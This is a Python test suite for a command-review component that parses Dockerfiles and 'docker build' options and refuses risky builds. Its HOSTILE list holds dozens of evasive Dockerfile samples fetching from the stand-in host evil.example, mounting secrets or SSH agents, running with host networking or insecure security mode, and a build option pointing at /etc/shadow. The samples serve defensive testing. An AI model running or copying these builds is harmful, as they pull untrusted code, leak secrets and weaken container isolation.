"""Dockerfiles are read in one way only, and what they would reach beyond is refused."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.commands.change_plans import spelt_out
from assistant.commands.dockerfile import Dockerfile, read
from assistant.commands.policy import Policy
from assistant.commands.references import parse_reference
from assistant.commands.review import review
from assistant.config import Limits
from assistant.errors import CommandSyntaxError
from assistant.values import Decision, Verdict


def parsed(text: str, **arguments: str) -> Dockerfile:
    return read(text.encode(), arguments, lambda name: spelt_out(parse_reference(name)))


def built(text: str, workspace: Path, options: str = "-t mine") -> Verdict:
    (workspace / "app").mkdir(exist_ok=True)
    (workspace / "app" / "Dockerfile").write_text(text)
    return review(
        f"docker build {options} app", policy=Policy.standard(), limits=Limits(), workspace=workspace
    )


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    return tmp_path.resolve()


REMOTE = "https://evil.example/x"
HOSTILE = (
    f"FROM busybox\nADD {REMOTE} /x\n",
    f'FROM busybox\nADD ["{REMOTE}", "/x"]\n',
    'FROM busybox\nADD ["\\u0068ttp://evil.example/x", "/x"]\n',
    f"FROM busybox\nadd --chown=1 {REMOTE.upper()} /x\n",
    "FROM busybox\nADD git@github.com:a/b.git /x\n",
    "FROM busybox\nADD https://github.com/a/b.git#main /x\n",
    "FROM busybox\nADD a/b.git /x\n",
    f"FROM busybox\nENV U={REMOTE}\nADD $U /x\n",
    "FROM busybox\nARG U\nADD ${U} /x\n",
    "FROM busybox\nADD ht\\tp://evil.example/x /x\n",
    "FROM busybox\nADD 'http'://evil.example/x /x\n",
    "FROM busybox\nADD \\\n# a comment\n\n  http://evil.example/x \\\n /x\n",
    f"FROM busybox\nONBUILD ADD {REMOTE} /x\n",
    "FROM busybox\nONBUILD ONBUILD RUN true\n",
    "FROM busybox\nONBUILD FROM busybox\n",
    "FROM busybox\nONBUILD COPY --from=evil.example/x /a /b\n",
    "FROM busybox\nONBUILD RUN --network=host true\n",
    "FROM evil.example/x\n",
    "FROM 127.0.0.1:5000/x\n",
    "FROM localhost/x\n",
    "ARG R=evil.example\nFROM $R/x\n",
    "ARG R=docker.io\nARG R=evil.example\nFROM ${R}/x\n",
    "ARG R\nFROM ${R:-evil.example}/x\n",
    "FROM ${R%%x}\n",
    "FROM $BUILDPLATFORM\n",
    "FROM --platform=$BUILDPLATFORM busybox\n",
    "FROM --platform=linux/amd64;x busybox\n",
    "FROM --mount=x busybox\n",
    "FROM busybox AS a\nFROM busybox\nCOPY --from=evil.example/x /a /b\n",
    "FROM busybox\nCOPY --from=127.0.0.1/x /a /b\n",
    "FROM busybox\nARG X=evil.example/x\nCOPY --from=$X /a /b\n",
    "FROM busybox\nCOPY --from=0 /a /b\n",
    "FROM busybox\nCOPY --link --from=evil.example/x /a /b\n",
    "FROM busybox\nRUN --security=insecure true\n",
    "FROM busybox\nRUN --network=host true\n",
    "FROM busybox\nRUN --mount=type=secret,id=x cat /run/secrets/x\n",
    "FROM busybox\nRUN --mount=type=ssh true\n",
    "FROM busybox\nRUN --mount=type=bind,from=evil.example/x true\n",
    "FROM busybox\nRUN --device=x true\n",
    "FROM busybox\nRUN <<EOF\nADD x y\nEOF\n",
    f"FROM busybox\nCOPY <<-'EOF' /x\nEOF\nADD {REMOTE} /x\n",
    "# syntax=evil.example/frontend\nFROM busybox\n",
    "# syntax = docker/dockerfile-upstream\nFROM busybox\n",
    "# check=skip=all\n# SYNTAX=evil\nFROM busybox\n",
    "# escape=`\nFROM busybox\nADD `\nhttp://evil.example/x /x\n",
    f"FROM busybox\nRUN echo \\\\\nADD {REMOTE} /x\n",
    "FROM busybox\nRUN echo \\\n",
    f"FROM busybox\nRUN true\rADD {REMOTE} /x\n",
    f"FROM busybox\nRUN true\u2028ADD {REMOTE} /x\n",
    "FROM busybox\n\u00a0ADD http://evil.example/x /x\n",
    "FROM busybox\nINCLUDE evil\n",
    "RUN true\n",
    "ARG A=1\n",
    "",
    "# nothing\n",
    "FROM scratch AS scratch\n",
    "FROM busybox AS \n",
    "FROM busybox evil\n",
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_dockerfile_is_refused_in_both_languages(text: str, workspace: Path) -> None:
    verdict = built(text, workspace)
    assert verdict.decision is Decision.REFUSE
    assert all(reason.text.en and reason.text.zh for reason in verdict.reasons)


@pytest.mark.parametrize(
    "options",
    ["--network host", "--network container:x", "--security-opt seccomp=unconfined", "--cgroup-parent /",
     "--add-host a:1.2.3.4", "--cache-from evil.example/x", "--ulimit nofile=1:1", "--build-arg HOME",
     "--iidfile x", "--squash", "--isolation process", "--platform '$X'", "-f /etc/shadow", "-f Dockerfile",
     "-f ../Dockerfile", "-f app/link"],
)  # fmt: skip
def test_a_line_that_opens_a_build_up_is_refused(options: str, workspace: Path) -> None:
    (workspace / "Dockerfile").write_text("FROM busybox\n")
    (workspace / "app").mkdir()
    (workspace / "app" / "link").symlink_to(workspace / "Dockerfile")
    assert built("FROM busybox\n", workspace, options).decision is Decision.REFUSE


def test_an_ordinary_build_asks_and_says_how_it_is_run(workspace: Path) -> None:
    text = "# syntax=docker/dockerfile:1\nARG V=1\nFROM busybox:$V AS a\nRUN x && \\\n  # why\n  y\nFROM a\n"
    verdict = built(
        text + "COPY --from=a --chown=1:1 /x /\nADD x.tar /\n", workspace, "-t mine --memory 8g --pull"
    )
    assert verdict.decision is Decision.ASK
    assert verdict.plan is not None
    docker, here = verdict.plan.operations
    assert (docker.sent, here.sent) == ("by docker", "here")
    assert here.query["networkmode"] == "none"
    assert here.query["memory"] == here.query["memswap"] == str(Limits().memory_bytes)
    assert here.query["cpuquota"] == "200000"
    assert '"docknotes.owner":"docknotes"' in here.query["labels"]
    assert {"networkmode", "memory", "labels", "pull", "Dockerfile"} <= {item.key for item in verdict.changes}
    assert any("less tightly" in change.why.en for change in verdict.changes)


def test_the_network_of_a_build_is_the_policys(workspace: Path, tmp_path: Path) -> None:
    from dataclasses import replace

    (workspace / "Dockerfile").write_text("FROM busybox\n")
    for network, options, found in (("bridge", "", "bridge"), ("bridge", "--network none", "none")):
        policy = replace(Policy.standard(), build_network=network)  # type: ignore[arg-type]
        verdict = review(f"docker build {options} .", policy=policy, limits=Limits(), workspace=workspace)
        assert verdict.plan is not None
        assert verdict.plan.operations[1].query["networkmode"] == found


def test_images_are_sent_by_their_ids_on_one_line_each() -> None:
    found = parsed(
        "ARG V=1\nfrom busybox:${V} as A\nrun echo a \\\n  b\nFROM a\n"
        "COPY --from=ghcr.io/x/y:2 /a /b\nCOPY --from=A c d\n",
        V="3",
    )
    assert found.images == ("docker.io/library/busybox:3", "ghcr.io/x/y:2")
    assert found.pinned({"docker.io/library/busybox:3": "sha256:aa", "ghcr.io/x/y:2": "sha256:bb"}) == (
        "ARG V=1\nFROM sha256:aa as A\nRUN echo a   b\nFROM a\n"
        "COPY --from=sha256:bb /a /b\nCOPY --from=A c d\n"
    )


def test_what_is_sent_is_read_the_same_again() -> None:
    found = parsed('FROM busybox\nHEALTHCHECK --interval=1s CMD true\nHEALTHCHECK NONE\nCMD ["--x", "y"]\n')
    again = parsed(found.pinned(dict.fromkeys(found.images, "busybox")))
    assert [(i.name, i.flags, i.rest) for i in again.instructions] == [
        (i.name, i.flags, i.rest) for i in found.instructions
    ]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(
                [
                    "FROM busybox",
                    "FROM a AS b",
                    "ADD x y",
                    "ADD",
                    "\\",
                    "# x",
                    "COPY --from=b x y",
                    "RUN <<E",
                    "E",
                ]
            ),
            st.text(max_size=20),
        ),
        max_size=8,
    )
)
def test_whatever_is_read_has_one_line_an_instruction(lines: list[str]) -> None:
    """No crash; and what is sent, read again, is what was judged."""
    try:
        found = parsed("\n".join(lines))
    except CommandSyntaxError as error:
        assert error.text.zh
        return
    sent = found.pinned(dict.fromkeys(found.images, "busybox"))
    assert sent.count("\n") == len(found.instructions)
    assert [instruction.name for instruction in parsed(sent).instructions] == [
        instruction.name for instruction in found.instructions
    ]
